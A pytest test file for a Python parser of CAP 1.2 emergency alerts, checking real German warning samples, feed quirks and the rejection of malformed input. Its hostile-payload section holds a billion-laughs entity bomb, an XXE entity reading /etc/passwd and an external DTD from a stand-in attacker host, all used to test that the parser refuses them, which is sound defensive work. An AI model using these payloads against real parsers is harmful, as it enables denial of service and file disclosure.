"""parse_alert against every real sample, each real-feed quirk (1-10 of docs/alerts.md), and
hostile payloads."""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from stele.domain.cap import JSON_CONTENT_TYPE, XML_CONTENT_TYPE, parse_alert
from stele.domain.cap_values import parse_references
from stele.domain.model import (
    Alert,
    Certainty,
    MsgType,
    Scope,
    Severity,
    Status,
    Urgency,
)
from stele.errors import CapError

DATA = Path(__file__).parents[1] / "data" / "cap"
CAP_NS = "urn:oasis:names:tc:emergency:cap:1.2"
DWD_LANGUAGES = ["de-DE", "en", "fr", "es", "ar", "ru", "tr", "pl"]


def raw(prefix: str) -> bytes:
    (path,) = DATA.glob(prefix + "_*")
    return path.read_bytes()


def sample(prefix: str) -> Alert:
    return parse_alert(raw(prefix))


def cap_xml(info: str = "", **header: str) -> bytes:
    """A minimal CAP 1.2 XML alert; keyword arguments replace header elements ("" drops one)."""
    fields = {
        "identifier": "TEST-1",
        "sender": "test@stele.example",
        "sent": "2024-05-01T12:00:00+02:00",
        "status": "Actual",
        "msgType": "Alert",
        "scope": "Public",
    } | header
    body = "".join(f"<{k}>{v}</{k}>" for k, v in fields.items() if v != "")
    return f'<?xml version="1.0"?><alert xmlns="{CAP_NS}">{body}{info}</alert>'.encode()


def cap_json(**fields: Any) -> bytes:
    """A minimal CAP-JSON alert; keyword arguments replace or add keys (None drops one)."""
    alert: dict[str, Any] = {
        "identifier": "TEST-J",
        "sender": "DE-NW-SG-TEST",
        "sent": "2024-05-01T12:00:00+02:00",
        "status": "Actual",
        "msgType": "Alert",
        "scope": "Public",
        "info": [{"language": "DE", "headline": "Test", "area": [{"areaDesc": "Solingen"}]}],
    } | fields
    return json.dumps({k: v for k, v in alert.items() if v is not None}).encode()


def rejected(payload: bytes, content_type: str | None = None, **kw: Any) -> str:
    """The CapError message for a payload that must be refused; it must be one line."""
    with pytest.raises(CapError) as err:
        parse_alert(payload, content_type, **kw)
    message = str(err.value)
    assert message and "\n" not in message
    return message


# --- every real sample ----------------------------------------------------------------------

SAMPLES = [
    # prefix, identifier, sender, sent, msgType, references, languages, first polygon point
    (
        "01",
        "DE-HH-HH-W240-20220217-003",
        "DE-HH-HH-W240",
        "2022-02-17T05:27:15+01:00",
        MsgType.ALERT,
        (),
        ["DE"],
        (54.352, 9.1246),
    ),
    (
        "02",
        "DE-HH-HH-W240-20220217-011",
        "DE-HH-HH-W240",
        "2022-02-17T16:06:40+01:00",
        MsgType.CANCEL,
        ("DE-HH-HH-W240-20220217-003",),
        ["DE"],
        (54.352, 9.1246),
    ),
    (
        "03a",
        "DE-ST-MSH-W058-20220217-000",
        "DE-ST-MSH-W058",
        "2022-02-17T07:19:15+01:00",
        MsgType.ALERT,
        (),
        ["DE"],
        (51.6164, 10.9161),
    ),
    (
        "03b",
        "DE-ST-MSH-W058-20220217-002",
        "DE-ST-MSH-W058",
        "2022-02-17T12:43:32+01:00",
        MsgType.UPDATE,
        ("DE-ST-MSH-W058-20220217-001", "DE-ST-MSH-W058-20220217-000"),
        ["DE"],
        (51.5937, 11.0445),
    ),
    (
        "04",
        "DE-NW-SO-SE089-20220218-89-001",
        "DE-NW-SO-SE089",
        "2022-02-18T21:32:00+01:00",
        MsgType.CANCEL,
        ("DE-NW-SO-SE089-20220218-89-000",),
        ["DE"],
        (51.5939, 7.9104),
    ),
    (
        "05",
        "HOCHWASSERZENTRALEN.DE.HB",
        "CAP@hochwasserzentralen.de",
        "2022-02-17T07:25:00+01:00",
        MsgType.ALERT,
        (),
        ["de-DE"],
        (53.4724, 8.4927),
    ),
    (
        "06",
        "a0927b9fe073b3d59ec9ccd4d8ca149b46bd20b2c6f6a532b4d6749910c2775b",
        "opendata@dwd.de",
        "2022-02-18T23:00:10+01:00",
        MsgType.ALERT,
        (),
        ["de-DE"],
        (53.5196, 8.0475),
    ),
    (
        "07",
        "2.49.0.0.276.0.DWD.PVW.1687511640000.0d1a4fb5-251a-46fc-aae3-a688d2021e71.MUL",
        "opendata@dwd.de",
        "2023-06-23T11:14:00+02:00",
        MsgType.UPDATE,
        ("2.49.0.0.276.0.DWD.PVW.1687503060000.fc4f7fd9-80e7-4d71-969a-254be3e27e83.MUL",),
        DWD_LANGUAGES,
        (52.625569, 12.172358),
    ),
    (
        "08",
        "2.49.0.0.276.0.DWD.PVW.1687470000000.fe90b61b-3755-4efb-8eda-b161251da9f7.MUL",
        "opendata@dwd.de",
        "2023-06-22T23:40:00+02:00",
        MsgType.ALERT,
        (),
        DWD_LANGUAGES,
        (52.363952, 9.434182),
    ),
    (
        "09",
        "2.49.0.0.276.0.DWD.PVW.1687514160000.20999218-5d5e-4761-b271-6c243f695568.MUL",
        "opendata@dwd.de",
        "2023-06-23T11:56:00+02:00",
        MsgType.UPDATE,
        ("2.49.0.0.276.0.DWD.PVW.1687483260000.e335908e-7419-4d5f-8376-422c14b4f25c.MUL",),
        DWD_LANGUAGES,
        (51.616003, 10.579522),
    ),
]


@pytest.mark.parametrize(
    ("prefix", "identifier", "sender", "sent", "msg_type", "refs", "languages", "point"),
    SAMPLES,
    ids=[s[0] for s in SAMPLES],
)
def test_real_sample(
    prefix: str,
    identifier: str,
    sender: str,
    sent: str,
    msg_type: MsgType,
    refs: tuple[str, ...],
    languages: list[str],
    point: tuple[float, float],
) -> None:
    payload = raw(prefix)
    alert = parse_alert(payload)
    assert alert.identifier == identifier
    assert alert.sender == sender
    assert alert.sent == datetime.fromisoformat(sent)
    assert alert.sent.utcoffset() is not None
    assert (alert.status, alert.msg_type, alert.scope) == (Status.ACTUAL, msg_type, Scope.PUBLIC)
    assert alert.references == refs
    assert [info.language for info in alert.infos] == languages
    assert alert.infos[0].areas[0].polygons[0].points[0] == point
    assert alert.raw == payload
    is_json = payload.lstrip()[:1] == b"{"
    assert alert.content_type == (JSON_CONTENT_TYPE if is_json else XML_CONTENT_TYPE)
    for info in alert.infos:
        assert info.headline and "<" not in info.headline
        for text in (info.description, info.instruction, info.contact, info.sender_name):
            assert "<br" not in text and "&nbsp;" not in text


def test_sample_05_lhp_fields() -> None:
    info = sample("05").infos[0]
    assert (info.severity, info.urgency, info.certainty) == (
        Severity.SEVERE,
        Urgency.IMMEDIATE,
        Certainty.OBSERVED,
    )
    assert info.effective == datetime(2022, 2, 17, 7, 15, tzinfo=timezone(timedelta(hours=1)))
    assert info.onset == info.effective
    assert info.expires == datetime(2022, 2, 18, 8, 15, tzinfo=timezone(timedelta(hours=1)))
    assert info.sender_name == "Bremen"
    assert info.categories == ("Met",)
    assert [len(p.points) for p in info.areas[0].polygons] == [218, 26, 5, 728]


def test_sample_06_dwd_via_bbk_event_codes_and_parameters() -> None:
    info = sample("06").infos[0]
    assert info.severity is Severity.EXTREME
    assert ("II", "56") in info.event_codes
    assert ("GROUP", "WIND") in info.event_codes
    assert info.parameter("Exponierte Böen") == "<160 [km/h]"  # kept verbatim, not "HTML"
    assert len(info.areas) == 12
    assert info.areas[0].description == "Kreis Friesland - Binnenland"
    assert info.areas[0].ars == ("034550000000",)


def test_sample_08_dwd_large_shares_areas_across_languages() -> None:
    alert = sample("08")
    assert [len(info.areas) for info in alert.infos] == [169] * 8
    assert [info.severity for info in alert.infos] == [Severity.MINOR] * 8
    assert alert.infos[4].language == "ar" and alert.infos[4].headline != alert.infos[0].headline
    # Equal areas of different language blocks are one object (built once).
    assert all(a is b for a, b in zip(alert.infos[0].areas, alert.infos[7].areas, strict=True))
    assert alert.infos[0].expires == datetime.fromisoformat("2023-06-23T16:00:00+02:00")


# --- quirks 1-10 -----------------------------------------------------------------------------


def polygon_xml(points: str) -> str:
    return f"<info><area><areaDesc>X</areaDesc><polygon>{points}</polygon></area></info>"


def test_quirk01_coordinate_order_is_detected_per_polygon() -> None:
    # BBK JSON writes lon,lat (sample 01 starts at "9.1246,54.352" near Husum) ...
    assert sample("01").infos[0].areas[0].polygons[0].points[0] == (54.352, 9.1246)
    for polygon in sample("01").infos[0].areas[0].polygons:
        assert all(53.0 < lat < 55.2 and 8.0 < lon < 10.0 for lat, lon in polygon.points)
    # ... DWD XML writes lat,lon, which is kept.
    assert sample("07").infos[0].areas[0].polygons[0].points[0] == (52.625569, 12.172358)
    swapped = parse_alert(cap_xml(polygon_xml("7.0,51.1 7.2,51.1 7.2,51.25 7.0,51.1")))
    assert swapped.infos[0].areas[0].polygons[0].points == (
        (51.1, 7.0),
        (51.1, 7.2),
        (51.25, 7.2),
        (51.1, 7.0),
    )


def test_quirk01_outside_germany_or_mixed_keeps_cap_order() -> None:
    vienna = parse_alert(cap_xml(polygon_xml("48.1,16.2 48.3,16.2 48.3,16.5 48.1,16.2")))
    assert vienna.infos[0].areas[0].polygons[0].points[0] == (48.1, 16.2)
    # One point readable both ways does not decide alone: all points must agree.
    mixed = parse_alert(cap_xml(polygon_xml("51.1,7.0 7.2,51.1 51.25,7.2")))
    assert mixed.infos[0].areas[0].polygons[0].points == ((51.1, 7.0), (7.2, 51.1), (51.25, 7.2))


def test_quirk01_circle_centre_order_and_radius() -> None:
    info = "<info><area><areaDesc>X</areaDesc><circle>{}</circle></area></info>"
    lat_lon = parse_alert(cap_xml(info.format("51.17,7.08 2.5"))).infos[0].areas[0].circles[0]
    lon_lat = parse_alert(cap_xml(info.format("7.08,51.17 2.5"))).infos[0].areas[0].circles[0]
    assert (lat_lon.lat, lat_lon.lon, lat_lon.radius_km) == (51.17, 7.08, 2.5)
    assert lon_lat == lat_lon


@pytest.mark.parametrize(
    "polygon", ["51.1,7.0 51.2", "51.1;7.0", "a,b", "nan,7.0", "51.1,inf", "91.0,7.0 92,7"]
)
def test_quirk01_malformed_points_are_rejected(polygon: str) -> None:
    assert "polygon" in rejected(cap_xml(polygon_xml(polygon)))


@pytest.mark.parametrize("circle", ["51.1,7.0", "51.1,7.0 -1", "51.1,7.0 x", "51.1 7.0 2"])
def test_quirk01_malformed_circles_are_rejected(circle: str) -> None:
    info = f"<info><area><areaDesc>X</areaDesc><circle>{circle}</circle></area></info>"
    assert "circle" in rejected(cap_xml(info))


def test_quirk02_malformed_references_give_exactly_the_identifiers() -> None:
    # Sample 04: sender part is a date-stamped id, sent part is "89--T00:00:00+00:00".
    assert sample("04").references == ("DE-NW-SO-SE089-20220218-89-000",)
    # Sample 03b: "id", "sender,id" and "id,sent" groups mixed; -001 appears twice.
    assert sample("03b").references == (
        "DE-ST-MSH-W058-20220217-001",
        "DE-ST-MSH-W058-20220217-000",
    )
    # CAP-conformant forms (samples 02 and 07).
    assert sample("02").references == ("DE-HH-HH-W240-20220217-003",)
    assert sample("07").references[0].endswith("fc4f7fd9-80e7-4d71-969a-254be3e27e83.MUL")


@pytest.mark.parametrize(
    ("value", "identifiers"),
    [
        (
            "a@x.de,ID-1,2024-05-01T12:00:00+02:00 a@x.de,ID-2,2024-05-01T13:00:00Z",
            ("ID-1", "ID-2"),
        ),
        ("ID-1 ID-2 ID-1", ("ID-1", "ID-2")),
        ("SENDER,ID-1", ("ID-1",)),
        ("ID-1,2024-05-01T12:00:00+02:00", ("ID-1",)),
        ("a@x.de,ID-1", ("ID-1",)),
        ("a@x.de , ID-1 , 2024-05-01T12:00:00+02:00", ("ID-1",)),
        ("HOCHWASSERZENTRALEN.DE.HB", ("HOCHWASSERZENTRALEN.DE.HB",)),
        ("a@x.de 2024-05-01T12:00:00+02:00 2024-05-01", ()),
        ("", ()),
        (",,, ,", ()),
    ],
)
def test_quirk02_reference_rule(value: str, identifiers: tuple[str, ...]) -> None:
    assert parse_references(value) == identifiers


def test_quirk03_cancel_keeps_the_severity_it_was_sent_with() -> None:
    alert = sample("04")
    assert alert.msg_type is MsgType.CANCEL
    assert alert.infos[0].severity is Severity.EXTREME  # deciding on msgType is decide.py's job
    assert alert.infos[0].headline == "Entwarnung: Stromausfall in Teilen von Welver"


def test_quirk04_mowas_alert_without_expires() -> None:
    assert [info.expires for info in sample("01").infos] == [None]
    assert sample("01").infos[0].effective is None
    assert sample("02").infos[0].expires == datetime.fromisoformat("2022-02-17T22:06:40+01:00")


def test_quirk05_language_kept_as_sent_stripped_default_en_us() -> None:
    assert sample("01").infos[0].language == "DE"
    assert sample("05").infos[0].language == "de-DE"
    assert [info.language for info in sample("07").infos] == DWD_LANGUAGES
    info = "<info><language> EN </language></info><info><headline>x</headline></info>"
    assert [i.language for i in parse_alert(cap_xml(info)).infos] == ["EN", "en-US"]


def test_quirk06_html_in_text_fields_becomes_plain_text() -> None:
    info = sample("05").infos[0]
    assert info.web == "https://www.bauumwelt.bremen.de/sixcms/detail.php?gsid=bremen213.c.31626.de"
    assert info.contact.endswith("Bremen\nSturmflut- und Hochwasserzentrale")
    assert sample("01").infos[0].instruction.count("\n") == 2
    rich = cap_json(
        note="Hinweis&nbsp;<b>intern</b>",
        info={
            "language": "DE",
            "headline": "Sturm&nbsp;&amp;&nbsp;Regen",
            "description": "Zeile 1<br>Zeile 2<p>Absatz</p>",
            "instruction": 'Siehe <a href="https://x.example">Karte</a>.',
            "event": "<i>Sturm</i>",
            "senderName": "Stadt&#32;Solingen",
            "area": {"areaDesc": "Solingen<br/>Mitte"},
        },
    )
    alert = parse_alert(rich)
    info = alert.infos[0]
    assert alert.note == "Hinweis intern"
    assert info.headline == "Sturm & Regen"
    assert info.description == "Zeile 1\nZeile 2\nAbsatz"
    assert info.instruction == "Siehe Karte."
    assert (info.event, info.sender_name) == ("Sturm", "Stadt Solingen")
    assert info.areas[0].description == "Solingen\nMitte"


def test_quirk07_warntag_probewarnung_stays_actual() -> None:
    info = "<info><language>de-DE</language><headline>Probewarnung</headline></info>"
    alert = parse_alert(cap_xml(info))
    assert alert.status is Status.ACTUAL
    assert alert.infos[0].headline == "Probewarnung"


def dwd_with_ii(value: str) -> bytes:
    return raw("07").replace(
        b"<valueName>II</valueName>\n      <value>61</value>",
        f"<valueName>II</valueName>\n      <value>{value}</value>".encode(),
    )


@pytest.mark.parametrize(
    ("ii", "status"), [("98", Status.TEST), ("99", Status.TEST), ("61", Status.ACTUAL)]
)
def test_quirk08_dwd_test_warnings_become_status_test(ii: str, status: Status) -> None:
    payload = dwd_with_ii(ii)
    assert payload.count(f"<value>{ii}</value>".encode()) == 8
    alert = parse_alert(payload)
    assert alert.status is status
    assert ("II", ii) in alert.infos[0].event_codes


def test_quirk08_in_json_too() -> None:
    payload = cap_json(info={"language": "de-DE", "eventCode": {"valueName": "II", "value": "99"}})
    assert parse_alert(payload).status is Status.TEST


def test_quirk09_bbk_ars_in_value_with_place_name_in_value_name() -> None:
    area = sample("01").infos[0].areas[0]
    assert area.ars == ("010510000000", "010540000000")
    assert area.warncells == ()
    assert sample("05").all_ars() == ("040110000000", "040120000000")


def test_quirk09_dwd_warncells_sample_08() -> None:
    alert = sample("08")
    per_area = [len(area.warncells) for info in alert.infos for area in info.areas]
    assert sum(per_area) == 1344  # 168 cells in each of the 8 language blocks
    assert len(alert.all_warncells()) == 168
    assert all(len(c) == 9 and c.isdigit() for c in alert.all_warncells())
    assert alert.all_ars() == ()


def test_quirk09_exclude_polygon_geocodes_are_not_warncells() -> None:
    alert = sample("09")
    assert b"EXCLUDE_POLYGON" in alert.raw
    assert all(c.isdigit() for c in alert.all_warncells())
    assert len(alert.all_warncells()) == 45


def test_quirk09_duplicates_removed_names_case_insensitive_short_keys_by_name() -> None:
    geocodes = [
        {"valueName": "Solingen", "value": "051220000000"},
        {"valueName": "Solingen", "value": "051220000000"},
        {"valueName": "warncellid", "value": "105122000"},
        {"valueName": "WARNCELLID", "value": "105122000"},
        {"valueName": "AGS", "value": "05122000"},
        {"valueName": "NUTS", "value": "DEA19"},
        {"valueName": "Ort", "value": "05122"},  # short digits under a place name: not a key
        {"valueName": "ARS", "value": "  "},
    ]
    payload = cap_json(info={"area": {"areaDesc": "Solingen", "geocode": geocodes}})
    area = parse_alert(payload).infos[0].areas[0]
    assert area.ars == ("051220000000", "05122000")
    assert area.warncells == ("105122000",)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024-05-01T12:00:00Z", datetime(2024, 5, 1, 12, tzinfo=UTC)),
        ("2024-05-01T12:00:00.250+02:00", datetime(2024, 5, 1, 10, 0, 0, 250000, tzinfo=UTC)),
        ("2024-05-01T12:00:00-05:30", datetime(2024, 5, 1, 17, 30, tzinfo=UTC)),
        ("2024-05-01T12:00:00+0200", datetime(2024, 5, 1, 10, tzinfo=UTC)),
        (" 2024-05-01T12:00:00.123456789Z ", datetime(2024, 5, 1, 12, 0, 0, 123456, tzinfo=UTC)),
    ],
)
def test_quirk10_times_with_offset_or_z(text: str, expected: datetime) -> None:
    alert = parse_alert(cap_xml(sent=text))
    assert alert.sent == expected
    assert alert.sent.tzinfo is not None


@pytest.mark.parametrize(
    "text",
    [
        "2024-05-01T12:00:00",
        "2022-13-45T00:00:00Z",
        "2024-05-01",
        "gestern",
        "2024-05-01T25:00:00Z",
        "2024-05-01T12:00:00+24:00",
    ],
)
def test_quirk10_sent_without_offset_or_invalid_is_rejected(text: str) -> None:
    assert rejected(cap_xml(sent=text)).startswith(f"invalid 'sent' time '{text}'")


@pytest.mark.parametrize("key", ["effective", "onset", "expires"])
def test_quirk10_invalid_optional_times_are_rejected(key: str) -> None:
    message = rejected(cap_json(info={key: "2024-05-01T12:00:00"}))
    assert message.startswith(f"invalid {key!r} time")
    assert parse_alert(cap_json(info={key: ""})).infos[0].effective is None  # empty = absent


# --- structure, enums, encodings ----------------------------------------------------------


@pytest.mark.parametrize("key", ["identifier", "sender", "sent", "status", "msgType", "scope"])
def test_required_elements(key: str) -> None:
    assert rejected(cap_xml(**{key: ""})) == f"missing required element {key!r}"
    assert rejected(cap_json(**{key: None})) == f"missing required element {key!r}"
    assert rejected(cap_json(**{key: "  "})) == f"empty required element {key!r}"


def test_enums_are_case_insensitive_and_unknown_levels_become_unknown() -> None:
    info = (
        "<info><severity>SEVERE</severity><urgency>soon</urgency>"
        "<certainty>likely</certainty></info>"
    )
    alert = parse_alert(cap_xml(info, status="exercise", msgType="UPDATE", scope="public"))
    assert (alert.status, alert.msg_type, alert.scope) == (
        Status.EXERCISE,
        MsgType.UPDATE,
        Scope.PUBLIC,
    )
    assert alert.infos[0].severity is Severity.SEVERE
    assert alert.infos[0].urgency is Urgency.UNKNOWN
    assert alert.infos[0].certainty is Certainty.LIKELY


@pytest.mark.parametrize(
    ("key", "value"), [("status", "Real"), ("msgType", "Info"), ("scope", "All")]
)
def test_unknown_status_msgtype_scope_are_rejected(key: str, value: str) -> None:
    assert rejected(cap_xml(**{key: value})) == f"invalid {key!r} value {value!r}"


def test_unknown_elements_and_foreign_namespaces_are_ignored() -> None:
    info = (
        '<info xmlns:x="urn:x"><x:headline>Fremd</x:headline><headline>Echt</headline>'
        "<unknown><deep>1</deep></unknown></info>"
    )
    alert = parse_alert(cap_xml(info))
    assert alert.infos[0].headline == "Echt"
    assert parse_alert(cap_json(extra={"a": [1, 2]}, source="LHP")).identifier == "TEST-J"


def test_xml_without_namespace_is_accepted() -> None:
    payload = cap_xml().replace(f' xmlns="{CAP_NS}"'.encode(), b"")
    assert parse_alert(payload).identifier == "TEST-1"


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (b"<foo/>", "not CAP 1.2: root element is <foo>"),
        (
            b'<alert xmlns="urn:oasis:names:tc:emergency:cap:1.1"/>',
            "not CAP 1.2: root element is <alert> in namespace "
            "'urn:oasis:names:tc:emergency:cap:1.1'",
        ),
    ],
)
def test_not_cap_root(payload: bytes, message: str) -> None:
    assert rejected(payload) == message


def test_encoding_from_content_type_then_sniffed() -> None:
    assert parse_alert(cap_xml(), "application/cap+xml; charset=utf-8").content_type == (
        XML_CONTENT_TYPE
    )
    assert parse_alert(cap_xml(), "text/xml").content_type == XML_CONTENT_TYPE
    assert parse_alert(cap_json(), "application/json").content_type == JSON_CONTENT_TYPE
    assert parse_alert(b"\xef\xbb\xbf \n" + cap_json(), "text/plain").identifier == "TEST-J"
    assert parse_alert(b"\xef\xbb\xbf\r\n" + cap_xml()).identifier == "TEST-1"
    assert parse_alert(bytearray(cap_json())).raw == cap_json()
    assert parse_alert(memoryview(cap_xml())).identifier == "TEST-1"
    utf16 = cap_xml().replace(b'<?xml version="1.0"?>', b"").decode().encode("utf-16")
    assert parse_alert(utf16, "application/cap+xml").identifier == "TEST-1"  # expat reads BOMs
    # The content type is obeyed: a JSON payload declared as XML is malformed XML.
    assert rejected(cap_json(), "application/cap+xml").startswith("malformed XML")
    assert rejected(cap_xml(), "application/json").startswith("malformed JSON")


def test_json_single_values_where_lists_are_allowed() -> None:
    payload = cap_json(
        code="1.0",
        references="SENDER,ID-0,2024-05-01T11:00:00+02:00",
        info={
            "category": "Met",
            "eventCode": {"valueName": "II", "value": 51},
            "parameter": [{"valueName": "layout", "value": "banner"}],
            "area": {
                "areaDesc": "A",
                "polygon": "7.0,51.1 7.2,51.1 7.2,51.25 7.0,51.1",
                "circle": ["51.17,7.08 2"],
                "geocode": {"valueName": "X", "value": "051220000000"},
            },
        },
    )
    alert = parse_alert(payload)
    info = alert.infos[0]
    assert alert.references == ("ID-0",)
    assert info.categories == ("Met",)
    assert info.event_codes == (("II", "51"),)
    assert info.parameter("layout") == "banner"
    assert info.areas[0].polygons[0].points[0] == (51.1, 7.0)
    assert info.areas[0].circles[0].radius_km == 2.0
    assert info.areas[0].ars == ("051220000000",)


# --- hostile and broken payloads -------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&xxe;</identifier></alert>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>x</identifier></alert>"""


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_dtds_and_entities_are_forbidden(payload: bytes) -> None:
    assert rejected(payload) == "XML forbidden: document type declaration (DTD)"


def test_undeclared_entity_is_malformed_not_expanded() -> None:
    payload = cap_xml(identifier="&xxe;")
    assert rejected(payload).startswith("malformed XML: undefined entity")
    assert parse_alert(cap_xml(identifier="A&amp;B&#x43;")).identifier == "A&BC"


def test_size_limit_is_checked_before_decoding() -> None:
    oversize = b"\xff" * (2 * 1024 * 1024 + 1)  # would fail decoding if it were decoded
    assert rejected(oversize) == "payload is 2097153 bytes, limit is 2097152"
    assert rejected(cap_xml(), max_bytes=100) == f"payload is {len(cap_xml())} bytes, limit is 100"
    assert parse_alert(raw("08")).identifier  # the real 407 KB DWD message fits the default


@pytest.mark.parametrize(
    ("payload", "content_type", "start"),
    [
        (b"", None, "empty payload"),
        (b"", "application/json", "empty payload"),
        (b" \r\n\t ", None, "payload is blank (whitespace only)"),
        (b"\xef\xbb\xbf  ", "application/cap+xml", "payload is blank (whitespace only)"),
        (bytes(range(256)), None, "not CAP: payload starts with byte 0x00"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", None, "not CAP: payload starts with byte 0x89"),
        ('{"identifier": "x"}'.encode("utf-16"), None, "not CAP: payload starts with byte 0xff"),
        ('{"identifier": "x"}'.encode("utf-16"), "application/json", "JSON is not valid UTF-8"),
        ("Hallo Welt".encode("utf-16"), "application/cap+xml", "malformed XML"),
        ("\u4e00\u4e8c\u4e09".encode("utf-16-le"), "application/cap+xml", "malformed XML"),
        (b"<alert", None, "malformed XML"),
        (b'{"identifier": ', None, "malformed JSON"),
        (b'{"identifier": ' + b"9" * 5000 + b"}", None, "malformed JSON: Exceeds the limit"),
        (b"[1, 2]", "application/json", "'alert' must be an object, got array"),
        (b'"text"', "application/json", "'alert' must be an object, got string"),
    ],
)
def test_garbage_is_refused_with_a_clear_message(
    payload: bytes, content_type: str | None, start: str
) -> None:
    assert rejected(payload, content_type).startswith(start)


def test_payload_of_wrong_type_is_refused() -> None:
    assert rejected("<alert/>") == "payload must be bytes, got str"  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"info": 5}, "'info' must be an object, got number"),
        ({"info": [None]}, "'info' must be an object, got null"),
        ({"info": {"area": "Solingen"}}, "'area' must be an object, got string"),
        ({"info": {"area": [{"geocode": [["x"]]}]}}, "'geocode' must be an object, got array"),
        ({"info": {"area": {"polygon": {"p": 1}}}}, "'polygon' must be text, got object"),
        ({"info": {"headline": ["a", {"b": 1}]}}, None),  # first value counts: valid
        ({"info": {"headline": {"de": "x"}}}, "'headline' must be text, got object"),
        ({"info": {"eventCode": "II"}}, "'eventCode' must be an object, got string"),
        ({"info": {"language": True}}, "'language' must be text, got boolean"),
        ({"identifier": ["A", "B"]}, None),
        ({"identifier": {"id": "A"}}, "'identifier' must be text, got object"),
        ({"sent": 1714557600}, "invalid 'sent' time '1714557600'"),
        ({"references": [1.5]}, None),
    ],
)
def test_json_with_wrong_types(fields: dict[str, Any], message: str | None) -> None:
    payload = cap_json(**fields)
    if message is None:
        assert isinstance(parse_alert(payload), Alert)
    else:
        assert rejected(payload).startswith(message)


def test_deeply_nested_json_is_wrapped() -> None:
    payload = b'{"identifier": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    assert rejected(payload) == "malformed JSON: nested too deeply"


def test_deeply_nested_xml_is_handled() -> None:
    depth = 200_000
    payload = cap_xml(note="<x>" * depth + "</x>" * depth)
    assert parse_alert(payload).note == ""


def test_unexpected_internal_errors_are_wrapped(monkeypatch: pytest.MonkeyPatch) -> None:
    import stele.domain.cap as cap

    def broken(_: str, __: str) -> None:
        raise KeyError("boom")

    monkeypatch.setattr(cap, "parse_time", broken)
    assert rejected(cap_xml()) == "unreadable CAP payload: KeyError: 'boom'"


def test_placeholder_vertex_in_a_lon_lat_polygon_is_dropped_and_order_still_detected() -> None:
    """A real MoWaS polygon (DE-BY-WEN-W130-20220217-000) starts with "-1.0,-1.0"; it must
    neither flip the order detection nor stretch the area to the Atlantic."""
    from stele.domain.cap_values import parse_polygon

    poly = parse_polygon("-1.0,-1.0 12.1,49.6 12.2,49.6 12.2,49.7 12.1,49.6")
    assert poly is not None
    assert poly.points[0] == (49.6, 12.1)
    assert all(47 < lat < 55.1 and 5.8 < lon < 15.1 for lat, lon in poly.points)


def test_malformed_xml_error_names_the_senders_line() -> None:
    payload = b'<?xml version="1.0"?>\n<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">\n  <identifier>x</identifier>\n  <sender>y</sende>\n</alert>'
    with pytest.raises(CapError, match="line 4"):
        parse_alert(payload)


def test_whitespace_between_tags_does_not_change_the_parsed_alert() -> None:
    raw = (DATA / "07_dwd_cap12_xml_update_multilang_starkregen.xml").read_bytes()
    compact = re.sub(rb">\s+<", b"><", raw)
    a, b = parse_alert(raw), parse_alert(compact)
    assert a.infos == b.infos and a.references == b.references and a.note == b.note
